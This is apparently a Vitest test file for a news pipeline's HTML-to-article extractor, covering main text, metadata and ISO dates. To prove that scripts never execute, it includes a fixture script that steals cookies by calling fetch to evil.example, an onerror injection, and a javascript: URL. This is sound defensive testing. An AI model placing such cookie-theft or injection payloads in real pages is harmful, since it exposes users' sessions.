import { Readability } from '@mozilla/readability';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { htmlToArticle, toIsoDate } from '../pipeline/normalize/html.ts';
import { normalizeText } from '../pipeline/normalize/text.ts';

afterEach(() => {
  vi.restoreAllMocks();
});

const JSON_LD = `<script type="application/ld+json">
{"@context": "https://schema.org", "@graph": [
  {"@type": "WebPage", "@id": "https://news.example.com/2024/03/05/bridge#webpage", "url": "https://news.example.com/2024/03/05/bridge"},
  {"@type": ["NewsArticle", "ReportageNewsArticle"], "headline": "Harbour bridge reopens after two years of repairs",
   "datePublished": "2024-03-05T09:30:00+00:00", "dateModified": "2024-03-05 11:02:00",
   "author": [{"@type": "Person", "name": "Jane Doe", "url": "/staff/jane-doe"}, {"@id": "#john-roe"}],
   "publisher": {"@id": "https://news.example.com/#org"},
   "mainEntityOfPage": {"@id": "https://news.example.com/2024/03/05/bridge#webpage"}},
  {"@type": "Person", "@id": "#john-roe", "name": "John Roe"},
  {"@type": "NewsMediaOrganization", "@id": "https://news.example.com/#org", "name": "Example Courier Ltd"}
]}
</script>`;

const OG = `
  <meta property="og:title" content="OG: Harbour bridge reopens">
  <meta property="og:site_name" content="The Example Courier">
  <meta property="og:image" content="/images/bridge.jpg">
  <meta property="og:description" content="The bridge is open again.">
  <meta property="article:published_time" content="2024-03-04T08:00:00Z">
  <meta property="article:author" content="https://www.facebook.com/example.courier">`;

const HARMFUL_SCRIPT = `<script>
  document.body.innerHTML = '<p>HACKED: this page has been taken over by a script that should never run.</p>';
  globalThis.__newsFactsPwned = true;
  fetch('https://evil.example/steal?c=' + document.cookie);
</script>`;

const ARTICLE_PARAGRAPHS = [
  'The Harbour Bridge reopened to traffic on Tuesday after a two-year, $40 million repair programme, the city council said.',
  'Mayor Anna Lindqvist cut the ribbon at 9 a.m. as several hundred residents watched from the southern approach, some holding placards thanking the construction crews.',
  '“It has been a long wait, but the bridge is safer than it has ever been,” Lindqvist told reporters.',
  'Engineers replaced 1,200 steel cables and resurfaced the deck, which carries about 60,000 vehicles a day. The council said tolls would stay at $2.50 until at least 2026.',
  'Traffic expected to ease',
  'Commuters had faced detours of up to 40 minutes while the bridge was closed. Local businesses on the northern shore reported a drop in trade of nearly a third.',
];

/** A news page as sites serve it: chrome around one <article>, metadata in several vocabularies. */
function newsPage(head = `${JSON_LD}${OG}`, scripts = HARMFUL_SCRIPT): string {
  return `<!DOCTYPE html>
<html lang="en-GB">
<head>
  <meta charset="utf-8">
  <title>Harbour bridge reopens after repairs | The Example Courier</title>
  <link rel="canonical" href="https://news.example.com/2024/03/05/bridge">
  <meta name="description" content="Plain meta description.">
  <meta name="author" content="Meta Author">
  ${head}
  ${scripts}
</head>
<body>
  <header class="site-header"><a href="/">The Example Courier</a>
    <nav><ul><li><a href="/news">News</a></li><li><a href="/sport">Sport</a></li><li><a href="/weather">Weather</a></li></ul></nav>
  </header>
  <main>
    <article>
      <h1>Harbour bridge reopens after two years of repairs</h1>
      <p class="byline">By <a rel="author" href="/staff/jane-doe">Jane Doe</a> and John Roe</p>
      <p>The Harbour Bridge reopened to traffic on Tuesday after a two-year,
         $40&nbsp;million repair programme, the city council said.</p>
      <p>Mayor Anna Lindqvist cut the ribbon at 9 a.m. as several hundred residents watched from the southern approach,
         some holding placards thanking the construction crews.</p>
      <div class="ad-slot"><p>Advertisement</p></div>
      <p>&ldquo;It has been a long wait, but the bridge is safer than it has ever been,&rdquo; Lindqvist told reporters.</p>
      <blockquote class="pull-quote"><p>“The bridge is safer than it has ever been.”</p></blockquote>
      <figure><img src="/images/bridge.jpg" alt="The bridge"><figcaption>The bridge at dawn. Photo: A. Photographer</figcaption></figure>
      <p>Engineers replaced 1,200 steel cables and resurfaced the <a href="/roads">deck</a>, which carries about 60,000 vehicles a day.
         The council said tolls would stay at $2.50 until at least 2026.</p>
      <h2>Traffic expected to ease</h2>
      <p>Commuters had faced detours of up to <em>40 minutes</em> while the bridge was closed. Local businesses on the northern
         shore reported a drop in trade of nearly a third.</p>
    </article>
  </main>
  <aside class="related"><h3>Related stories</h3><ul>
    <li><a href="/a">Council approves new budget for the harbour district after a long debate</a></li>
    <li><a href="/b">Ferry timetable changes announced for the summer season</a></li></ul></aside>
  <footer><p>© 2024 The Example Courier. All rights reserved.</p><p><a href="/privacy">Privacy policy</a></p></footer>
  ${scripts}
</body>
</html>`;
}

describe('htmlToArticle main text', () => {
  it('extracts the article paragraphs exactly, one per line, without page chrome', () => {
    const { body, warnings } = htmlToArticle(newsPage());
    expect(body.split('\n')).toEqual(ARTICLE_PARAGRAPHS);
    expect(warnings).toEqual([]);
  });

  it('gives a body that normalizeText keeps as is, no boilerplate or script text included', () => {
    const { body } = htmlToArticle(newsPage());
    expect(normalizeText(body, 'txt')).toBe(body);
    for (const junk of ['Sport', 'Related stories', 'Ferry timetable', 'All rights reserved', 'Advertisement', 'HACKED', 'Photo:', 'By Jane', 'evil.example']) {
      expect(body).not.toContain(junk);
    }
  });

  it('never runs page scripts: a script that replaces document.body changes nothing', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const withScripts = htmlToArticle(newsPage(`${JSON_LD}${OG}`, HARMFUL_SCRIPT + '<img src="x" onerror="globalThis.__newsFactsPwned = true">'));
    const without = htmlToArticle(newsPage(`${JSON_LD}${OG}`, ''));
    expect(withScripts).toEqual(without);
    expect(withScripts.body).not.toContain('HACKED');
    expect((globalThis as Record<string, unknown>).__newsFactsPwned).toBeUndefined();
    // nothing is fetched either: not the harmful script's URL, not JSON-LD's remote @context
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('flattens blocks: inline joined, <br> ends a line, lists and pre by line, entities decoded, captions dropped', () => {
    const html = `<html><head><title>Storm notice</title></head><body><article>
      <p>Officials at the <b>Met</b><i>Office</i> said the storm, named &quot;Ciar&aacute;n&quot;, would hit on
         Thursday. Gusts of up to 90 mph were expected along the coast and inland.</p>
      <p>Residents should call:<br>0800 123 456<br/>or visit the council website for updates on road closures.</p>
      <ul><li>Bring garden furniture indoors.</li><li>Check on elderly <span>neighbours</span>.</li></ul>
      <pre>Closure list
  A39   Lynmouth</pre>
      <figure><img src="/m.png"><figcaption>Forecast map. Credit: Met Office</figcaption></figure>
      <p hidden>Hidden text that readers never see.</p>
    </article></body></html>`;
    expect(htmlToArticle(html).body.split('\n')).toEqual([
      'Officials at the MetOffice said the storm, named "Ciarán", would hit on Thursday. Gusts of up to 90 mph were expected along the coast and inland.',
      'Residents should call:',
      '0800 123 456',
      'or visit the council website for updates on road closures.',
      'Bring garden furniture indoors.',
      'Check on elderly neighbours.',
      'Closure list',
      'A39 Lynmouth',
    ]);
  });

  it('drops a pull quote that repeats the text even without a pull-quote class, keeps a real block quote', () => {
    const html = `<html><body><article>
      <p>The minister defended the decision on Monday. “We will not raise taxes on working families this year,” she told parliament.</p>
      <blockquote><p>“We will not raise taxes on working families this year”</p></blockquote>
      <p>Her statement read in full:</p>
      <blockquote><p>The government remains committed to its fiscal rules and to a balanced budget by 2027.</p></blockquote>
    </article></body></html>`;
    expect(htmlToArticle(html).body.split('\n')).toEqual([
      'The minister defended the decision on Monday. “We will not raise taxes on working families this year,” she told parliament.',
      'Her statement read in full:',
      'The government remains committed to its fiscal rules and to a balanced budget by 2027.',
    ]);
  });

  it('accepts a fragment without <html> or <body>', () => {
    const { body } = htmlToArticle('<p>The port reopened on Friday after a strike that lasted three weeks.</p><p>Shipping resumed at noon.</p>');
    expect(body).toBe('The port reopened on Friday after a strike that lasted three weeks.\nShipping resumed at noon.');
  });
});

describe('htmlToArticle fallback', () => {
  it('uses the body without nav, header, aside and footer when Readability finds nothing', () => {
    vi.spyOn(Readability.prototype, 'parse').mockReturnValue(null);
    const { body, warnings } = htmlToArticle(newsPage());
    // the fallback keeps the in-article <h1>; Readability would have dropped it as the title
    expect(body.split('\n')).toEqual(['Harbour bridge reopens after two years of repairs', ...ARTICLE_PARAGRAPHS]);
    expect(warnings).toEqual([expect.stringMatching(/Readability found no main article text/)]);
  });

  it('falls back when Readability throws, and reports why', () => {
    vi.spyOn(Readability.prototype, 'parse').mockImplementation(() => {
      throw new Error('boom');
    });
    const { body, warnings } = htmlToArticle(newsPage());
    expect(body.split('\n')).toContain(ARTICLE_PARAGRAPHS[0]);
    expect(warnings[0]).toMatch(/Readability failed \(boom\)/);
  });

  it.each([
    ['Readability returns null for (its only heading repeats the title)', ''],
    ['Readability keeps only site chrome from', '<header><a href="/">Home</a></header><nav><a href="/news">News</a></nav>'],
  ])('takes the fallback on a page %s', (_name, chrome) => {
    const html = `<html><head><title>Gale warning for the coast</title></head><body>
      ${chrome}<h1>Gale warning for the coast</h1><footer>Contact us</footer></body></html>`;
    const { body, warnings } = htmlToArticle(html);
    expect(body).toBe('Gale warning for the coast');
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/used the page body/);
  });
});

describe('htmlToArticle metadata', () => {
  it('merges JSON-LD, OpenGraph, meta and link tags from a news page', () => {
    const { metadata } = htmlToArticle(newsPage());
    expect(metadata).toEqual({
      headline: 'Harbour bridge reopens after two years of repairs', // JSON-LD over og:title and <title>
      datePublished: '2024-03-05T09:30:00+00:00', // JSON-LD over article:published_time
      dateModified: '2024-03-05T11:02:00', // space separator normalized
      author: [
        { name: 'Jane Doe', url: 'https://news.example.com/staff/jane-doe' }, // relative, resolved against canonical
        { name: 'John Roe' }, // followed through its @id reference
      ],
      publisher: 'Example Courier Ltd', // @id reference to the organization node
      url: 'https://news.example.com/2024/03/05/bridge', // mainEntityOfPage → WebPage url
      image: 'https://news.example.com/images/bridge.jpg', // og:image, relative, resolved against canonical
      description: 'The bridge is open again.', // og:description over meta description
      inLanguage: 'en-GB', // <html lang>
    });
  });

  // each level removes the strongest remaining source; og:site_name stays so the <title> suffix can be cut
  const LD = `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"LD headline",
    "datePublished":"2024-03-05","author":"LD Author","description":"LD description","publisher":{"@type":"Organization","name":"LD Publisher"},"inLanguage":"en-US"}</script>`;
  const OG_TAGS = `<meta property="og:title" content="OG headline"><meta property="article:published_time" content="2024-03-04">
    <meta property="article:author" content="OG Author"><meta property="og:description" content="OG description"><meta property="og:locale" content="en_IE">`;
  const META = `<meta name="dc.title" content="Meta headline"><meta name="date" content="2024-03-03"><meta name="author" content="By Meta Author">
    <meta name="description" content="Meta description">`;
  const SITE = '<meta property="og:site_name" content="The Courier">';
  const head = (...parts: string[]): string =>
    `<html lang="en-AU"><head><title>Title headline | The Courier</title>${parts.join('')}</head><body><p>Text.</p></body></html>`;
  it.each([
    ['JSON-LD beats everything', head(LD, OG_TAGS, META, SITE), ['LD headline', '2024-03-05', 'LD Author', 'LD description', 'LD Publisher', 'en-US']],
    ['OpenGraph beats meta and title', head(OG_TAGS, META, SITE), ['OG headline', '2024-03-04', 'OG Author', 'OG description', 'The Courier', 'en-IE']],
    ['meta beats title', head(META, SITE), ['Meta headline', '2024-03-03', 'Meta Author', 'Meta description', 'The Courier', 'en-AU']],
    ['title last, its site suffix cut', head(SITE), ['Title headline', undefined, undefined, undefined, 'The Courier', 'en-AU']],
  ])('%s', (_name, html, [headline, date, author, description, publisher, lang]) => {
    const { metadata, warnings } = htmlToArticle(html);
    expect(metadata.headline).toBe(headline);
    expect(metadata.datePublished).toBe(date);
    expect(metadata.author).toEqual(author ? [{ name: author }] : undefined);
    expect(metadata.description).toBe(description);
    expect(metadata.publisher).toBe(publisher);
    expect(metadata.inLanguage).toBe(lang);
    expect(warnings).toEqual([]);
  });

  it('keeps the title whole when its suffix is not the site name', () => {
    const html = '<html><head><title>Strikes spread - Day 3</title><meta property="og:site_name" content="The Courier"></head><body><p>x</p></body></html>';
    expect(htmlToArticle(html).metadata.headline).toBe('Strikes spread - Day 3');
  });

  it('drops a date it cannot read with a warning and takes the next source', () => {
    const html = newsPage(
      `<script type="application/ld+json">{"@type":"NewsArticle","headline":"H","datePublished":"yesterday afternoon","dateModified":"2024-02-30T10:00:00Z"}</script>
       <meta property="article:published_time" content="Tue, 05 Mar 2024 08:15:00 GMT">`,
      '',
    );
    const { metadata, warnings } = htmlToArticle(html);
    expect(metadata.datePublished).toBe('2024-03-05T08:15:00Z');
    expect(metadata.dateModified).toBeUndefined();
    expect(warnings).toEqual([
      'html: JSON-LD NewsArticle datePublished "yesterday afternoon" is not a date; dropped',
      'html: JSON-LD NewsArticle dateModified "2024-02-30T10:00:00Z" is not a date; dropped',
    ]);
  });

  it('resolves relative URLs against the canonical URL, drops them with a warning when there is none', () => {
    const tags = '<meta property="og:image" content="../img/a.jpg"><meta property="og:url" content="/story">';
    const withCanonical = htmlToArticle(`<html><head><link rel="canonical" href="https://example.org/news/2024/story">${tags}</head><body><p>x</p></body></html>`);
    expect(withCanonical.metadata.image).toBe('https://example.org/news/img/a.jpg');
    expect(withCanonical.metadata.url).toBe('https://example.org/story');
    expect(withCanonical.warnings).toEqual([]);

    const without = htmlToArticle(`<html><head>${tags}<meta name="twitter:image" content="javascript:alert(1)"></head><body><p>x</p></body></html>`);
    expect(without.metadata.image).toBeUndefined();
    expect(without.metadata.url).toBeUndefined();
    expect(without.warnings).toEqual([
      'html: meta og:url "/story" is not an absolute http(s) URL and the page has no canonical URL; dropped',
      'html: meta og:image "../img/a.jpg" is not an absolute http(s) URL and the page has no canonical URL; dropped',
      'html: meta twitter:image "javascript:alert(1)" is not an absolute http(s) URL and the page has no canonical URL; dropped',
    ]);
  });

  it('reads JSON-LD arrays, Organization authors, ImageObject lists, wrappers and escaped text', () => {
    const html = `<html><head>
      <script type="application/ld+json">{"@type": "Organization", "name": "Not the article"}</script>
      <script type="application/ld+json"><!--
      [{"@type": "BreadcrumbList"}, {"@type": "http://schema.org/BlogPosting", "headline": "R&amp;D budget\\n  doubles",
        "author": {"@type": "Organization", "name": "Courier Staff", "url": "https://example.org/staff"},
        "image": [{"@type": "ImageObject", "url": "https://cdn.example.org/a.jpg"}, "https://cdn.example.org/b.jpg"],
        "publisher": "Courier Media", "url": "https://example.org/rd", "inLanguage": "EN-us"}];
      --></script>
      <script type="application/ld+json">{ not json </script>
    </head><body><p>x</p></body></html>`;
    const { metadata, warnings } = htmlToArticle(html);
    expect(metadata).toEqual({
      headline: 'R&D budget doubles',
      author: [{ name: 'Courier Staff', url: 'https://example.org/staff' }],
      image: 'https://cdn.example.org/a.jpg',
      publisher: 'Courier Media',
      url: 'https://example.org/rd',
      inLanguage: 'en-US',
    });
    expect(warnings).toHaveLength(1);
    expect(warnings[0]).toMatch(/^html: JSON-LD block 3 is not valid JSON/);
  });

  it('gives only values the normalize stage accepts', () => {
    const { metadata } = htmlToArticle(newsPage());
    const iso = /^\d{4}(-\d{2}(-\d{2}(T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:?\d{2})?)?)?)?$/;
    expect(metadata.datePublished).toMatch(iso);
    expect(metadata.dateModified).toMatch(iso);
    for (const url of [metadata.url, metadata.image, ...(metadata.author ?? []).map((a) => a.url).filter(Boolean)]) {
      expect(url).toMatch(/^https?:\/\/\S+$/);
    }
  });
});

describe('toIsoDate', () => {
  it.each([
    ['2024-03-05', '2024-03-05'],
    ['2024-03', '2024-03'],
    ['20240305', '2024-03-05'],
    ['2024-03-05t09:30:00z', '2024-03-05T09:30:00Z'],
    ['2024-03-05T09:30:00.123+0530', '2024-03-05T09:30:00.123+05:30'],
    ['2024-03-05 09:30 UTC', '2024-03-05T09:30Z'],
    ['Tue, 05 Mar 2024 14:30:00 GMT', '2024-03-05T14:30:00Z'],
    ['Tue, 5 Mar 2024 14:30:00 -0500', '2024-03-05T14:30:00-05:00'],
    ['March 5, 2024', '2024-03-05'],
    ['Sept. 9, 2024 2:30 PM EDT', '2024-09-09T14:30-04:00'],
    ['5th March 2024 at 12:05 am', '2024-03-05T00:05'],
    ['5 March 2024 10:00 BST', '2024-03-05'], // ambiguous zone: keep the date only
    ['1709631000', '2024-03-05T09:30:00Z'],
  ])('%s → %s', (raw, iso) => {
    expect(toIsoDate(raw)).toBe(iso);
  });

  it.each(['yesterday', '2024-02-30', '2024-13-01', '2024-03-05T25:00', 'March 32, 2024', 'Smarch 5, 2024', '13:00 PM March 5, 2024', ''])(
    'rejects %j',
    (raw) => {
      expect(toIsoDate(raw)).toBeNull();
    },
  );
});
